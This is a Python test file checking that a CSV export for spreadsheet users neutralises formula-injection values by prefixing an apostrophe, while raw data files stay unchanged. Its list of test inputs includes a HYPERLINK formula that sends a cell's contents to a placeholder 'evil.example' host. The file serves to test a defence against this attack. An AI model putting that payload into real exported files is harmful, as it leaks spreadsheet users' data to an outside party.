"""Tables that people open in a spreadsheet hold no formulas; files of data hold what they held."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import polars as pl
import pytest

from paretohqd.frames.writing import csv_for_people, write_frame

FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"open")',
    "=1+1",
    "+1",
    "-2+3",
    "-\n1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
]
PLAIN = ["", "-", "SFT", "a = b", "'quoted'", "1", "é", "two\nlines", 'a "quote", a comma']


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    frame = pl.DataFrame({"method": [text, None], text: ["SFT", text]})
    head, first, second = read(csv_for_people(frame))
    assert head == ["method", f"'{text}"]
    assert first == [f"'{text}", "SFT"]
    assert second == ["", f"'{text}"]


@pytest.mark.parametrize("dtype", [pl.String, pl.Categorical])
def test_other_texts_and_all_numbers_stay(dtype: type[pl.DataType]) -> None:
    frame = pl.DataFrame({"a": PLAIN, "b": [-1.5] * len(PLAIN)}).with_columns(
        pl.col("a").cast(dtype)
    )
    assert csv_for_people(frame) == frame.write_csv()


def test_names_that_polars_takes_for_patterns_are_names() -> None:
    frame = pl.DataFrame({"^a.*$": ["=1"], "*": ["x"], "ab": ["y"]})
    assert csv_for_people(frame) == "^a.*$,*,ab\n'=1,x,y\n"


def test_data_are_written_as_they_are(tmp_path: Path) -> None:
    frame = pl.DataFrame({"response": FORMULAS})
    write_frame(frame, tmp_path / "rows.csv")
    with (tmp_path / "rows.csv").open(newline="") as file:
        assert [row for (row,) in csv.reader(file)][1:] == FORMULAS


def test_help_says_that_data_are_written_as_they_are(capsys: pytest.CaptureFixture[str]) -> None:
    from paretohqd.cli.main import main

    with pytest.raises(SystemExit):
        main(["select", "--help"])
    assert "takes those that begin with =, +, - or @ for formulas" in " ".join(
        capsys.readouterr().out.split()
    )
